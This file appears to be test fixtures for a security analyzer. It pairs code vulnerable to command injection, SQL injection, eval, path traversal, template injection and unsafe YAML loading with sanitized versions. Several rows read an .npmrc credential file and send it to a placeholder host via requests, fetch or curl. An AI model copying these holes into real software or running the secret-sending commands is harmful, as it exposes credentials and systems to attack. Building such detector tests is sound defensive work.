import { type FlowCase, inFile, type Language } from './case.ts';

type Row = readonly [name: string, language: Language, rule: RegExp, lines: string];

const FLASK =
  'from flask import Flask, request\napp = Flask(__name__)\n@app.route("/c")\ndef handle():\n    x = request.args.get("name") §\n';
const EXPRESS =
  'const app = require("express")();\napp.get("/c", (req, res) => { §\n  const x = req.query.name;\n';
const TOOL =
  'from mcp.server.fastmcp import FastMCP\nserver = FastMCP("a")\n@server.tool()\ndef handle(x: str) -> str: §\n';
const SHELL_TEXT = /^(?:shell-text-from-outside|tool-input-in-shell-text)$/;
const SQL = /^(?:sql-from-input|tool-input-in-query)$/;
const CODE = /^(?:eval-of-input|tool-input-as-code)$/;
const PATH = /^(?:path-from-input|tool-input-as-path)$/;
const SECRET = /^secret-file-to-network$/;
const MARKUP = /^template-from-input$/;

/** What is dangerous without the sanitizer and harmless with it. */
const ROWS: readonly Row[] = [
  [
    'shlex.quote',
    'python',
    SHELL_TEXT,
    `import os, shlex\n${FLASK}    os.system("convert " + «x¦shlex.quote(x)») ¶`,
  ],
  [
    'quoted words',
    'python',
    SHELL_TEXT,
    `import shlex, subprocess\n${FLASK}    subprocess.run(«" ".join(["convert", x])¦shlex.join(["convert", x])», shell=True) ¶`,
  ],
  [
    'argument array',
    'python',
    SHELL_TEXT,
    `import subprocess\n${TOOL}    return subprocess.run(«f"convert -- {x}", shell=True¦["convert", "--", x]») ¶`,
  ],
  ['int', 'python', SHELL_TEXT, `import os\n${FLASK}    os.system(f"sleep {«x¦int(x)»}") ¶`],
  ['float', 'python', SHELL_TEXT, `import os\n${TOOL}    return os.popen("sleep %s" % «x¦float(x)») ¶`],
  [
    'allow-list',
    'python',
    SHELL_TEXT,
    `import os\n${TOOL}    if «x == ""¦x not in ("day", "night")»:\n        raise ValueError(x)\n    os.system("theme " + x) ¶`,
  ],
  [
    'allow-list in a set',
    'python',
    SHELL_TEXT,
    `import os\nKNOWN = {"day", "night"}\n${FLASK}    if «x¦x in KNOWN»:\n        os.system("theme " + x) ¶`,
  ],
  [
    'table of choices',
    'python',
    SHELL_TEXT,
    `import os\nKNOWN = {"day": "theme-day", "night": "theme-night"}\n${TOOL}    os.system(«x¦KNOWN[x]») ¶`,
  ],
  [
    'parameters of SQL',
    'python',
    SQL,
    `import sqlite3\n${FLASK}    db = sqlite3.connect("a.db")\n    db.execute(«f"select * from t where n = '{x}'"¦"select * from t where n = ?", (x,)») ¶`,
  ],
  [
    'parameters of a driver',
    'python',
    SQL,
    `import psycopg2\n${TOOL}    cursor = psycopg2.connect("").cursor()\n    cursor.execute(«"select * from t where n = '%s'" % x¦"select * from t where n = %s", [x]») ¶`,
  ],
  [
    'text of SQLAlchemy',
    'python',
    SQL,
    `from sqlalchemy import create_engine, text\n${FLASK}    with create_engine("sqlite://").connect() as c:\n        c.execute(text(«"select * from t where n = '" + x + "'"¦"select * from t where n = :n"»), {"n": x}) ¶`,
  ],
  ['ast.literal_eval', 'python', CODE, `import ast\n${FLASK}    return str(«eval¦ast.literal_eval»(x)) ¶`],
  ['json.loads', 'python', CODE, `import json\n${TOOL}    return «eval¦json.loads»(x) ¶`],
  [
    'is_relative_to',
    'python',
    PATH,
    `from pathlib import Path\nROOT = Path("/srv/files").resolve()\n${TOOL}    path = (ROOT / x).resolve()\n    if «path.is_dir()¦not path.is_relative_to(ROOT)»:\n        raise ValueError(x)\n    return path.read_text() ¶`,
  ],
  [
    'common prefix',
    'python',
    PATH,
    `import os\nROOT = "/srv/files"\n${TOOL}    path = os.path.realpath(os.path.join(ROOT, x))\n    if «path == ROOT¦os.path.commonpath([ROOT, path]) != ROOT»:\n        raise ValueError(x)\n    return open(path).read() ¶`,
  ],
  [
    'startswith',
    'python',
    PATH,
    `import os\nROOT = "/srv/files/"\n${FLASK}    path = os.path.realpath(os.path.join(ROOT, x))\n    if «path¦path.startswith(ROOT)»:\n        return open(path).read() ¶`,
  ],
  [
    'base name',
    'python',
    PATH,
    `import os\n${FLASK}    return open(os.path.join("/srv/files", «x¦os.path.basename(x)»)).read() ¶`,
  ],
  [
    'secure_filename',
    'python',
    PATH,
    `import os\nfrom werkzeug.utils import secure_filename\n${FLASK}    return open(os.path.join("/srv/files", «x¦secure_filename(x)»)).read() ¶`,
  ],
  [
    'hash of a secret',
    'python',
    SECRET,
    'import hashlib, requests\nx = open("/root/.npmrc", "rb").read() §\nrequests.post("https://api.example.invalid/", data=«x¦hashlib.sha256(x).hexdigest()») ¶',
  ],
  [
    'length of a secret',
    'python',
    SECRET,
    'import requests\nx = open("/root/.npmrc").read() §\nrequests.post("https://api.example.invalid/", json={"size": «x¦len(x)»}) ¶',
  ],
  [
    'whether there is a secret',
    'python',
    SECRET,
    'import requests\nx = open("/root/.npmrc").read() §\nrequests.post("https://api.example.invalid/", json={"set": «x¦bool(x)»}) ¶',
  ],
  [
    'html.escape',
    'python',
    MARKUP,
    `import html\nfrom flask import render_template_string\n${FLASK}    return «render_template_string("<b>" + x + "</b>")¦"<b>" + html.escape(x) + "</b>"» ¶`,
  ],
  [
    'variables of a template',
    'python',
    MARKUP,
    `from flask import render_template_string\n${FLASK}    return render_template_string(«"<b>" + x¦"<b>{{ x }}", x=x») ¶`,
  ],
  [
    'yaml.safe_load',
    'python',
    /^(?:tool-input-unpickled|remote-deserialization)$/,
    `import yaml\n${FLASK}    return yaml.«unsafe_load¦safe_load»(x) ¶`,
  ],
  [
    'argument array',
    'javascript',
    SHELL_TEXT,
    `const cp = require("child_process");\n${EXPRESS}  cp.«execSync("convert " + x)¦execFileSync("convert", ["--", x])»; ¶\n});`,
  ],
  [
    'Number',
    'javascript',
    SHELL_TEXT,
    `const cp = require("child_process");\n${EXPRESS}  cp.execSync("sleep " + «x¦Number(x)»); ¶\n});`,
  ],
  [
    'parseInt',
    'javascript',
    SHELL_TEXT,
    `const cp = require("child_process");\n${EXPRESS}  cp.execSync("sleep " + «x¦parseInt(x, 10)»); ¶\n});`,
  ],
  [
    'allow-list',
    'javascript',
    SHELL_TEXT,
    `const cp = require("child_process");\nconst KNOWN = ["day", "night"];\n${EXPRESS}  if («!x¦!KNOWN.includes(x)») return res.status(400).end();\n  cp.execSync("theme " + x); ¶\n});`,
  ],
  [
    'allow-list in a set',
    'javascript',
    SHELL_TEXT,
    `const cp = require("child_process");\nconst KNOWN = new Set(["day", "night"]);\n${EXPRESS}  if («x¦KNOWN.has(x)») {\n    cp.execSync("theme " + x); ¶\n  }\n});`,
  ],
  [
    'parameters of SQL',
    'javascript',
    SQL,
    `const { Client } = require("pg");\nconst db = new Client();\n${EXPRESS}  db.query(«"select * from t where n = '" + x + "'"¦"select * from t where n = $1", [x]»); ¶\n});`,
  ],
  ['JSON.parse', 'javascript', CODE, `${EXPRESS}  res.json(«eval("(" + x + ")")¦JSON.parse(x)»); ¶\n});`],
  [
    'prefix of a path',
    'javascript',
    PATH,
    `const fs = require("fs"), path = require("path");\nconst ROOT = path.resolve("files") + path.sep;\n${EXPRESS}  const name = path.resolve(ROOT, x);\n  if («!name¦!name.startsWith(ROOT)») return res.status(400).end();\n  res.send(fs.readFileSync(name)); ¶\n});`,
  ],
  [
    'base name',
    'javascript',
    PATH,
    `const fs = require("fs"), path = require("path");\n${EXPRESS}  res.send(fs.readFileSync(path.join("files", «x¦path.basename(x)»))); ¶\n});`,
  ],
  [
    'hash of a secret',
    'javascript',
    SECRET,
    'const fs = require("fs"), crypto = require("crypto");\nconst x = fs.readFileSync("/root/.npmrc"); §\nfetch("https://api.example.invalid/", { method: "POST", body: «x¦crypto.createHash("sha256").update(x).digest("hex")» }); ¶',
  ],
  [
    'length of a secret',
    'javascript',
    SECRET,
    'const fs = require("fs");\nconst x = fs.readFileSync("/root/.npmrc", "utf8"); §\nfetch("https://api.example.invalid/?n=" + «x¦x.length»); ¶',
  ],
  [
    'hash of a secret',
    'shell',
    SECRET,
    'x=$(cat ~/.npmrc) §\ncurl -s -d "$(echo "$x" | «base64¦sha256sum | cut -d" " -f1»)" https://api.example.invalid/ ¶',
  ],
  [
    'length of a secret',
    'shell',
    SECRET,
    'x=$(cat ~/.npmrc) §\ncurl -s -d "«$x¦${#x}»" https://api.example.invalid/ ¶',
  ],
  [
    'number of lines of a secret',
    'shell',
    SECRET,
    'x=$(cat ~/.npmrc | «tr a b¦wc -l») §\ncurl -s -d "$x" https://api.example.invalid/ ¶',
  ],
];

export const SANITIZERS: readonly FlowCase[] = ROWS.map(([name, language, rule, lines]) =>
  inFile(language, name, rule, lines.split('\n')),
);
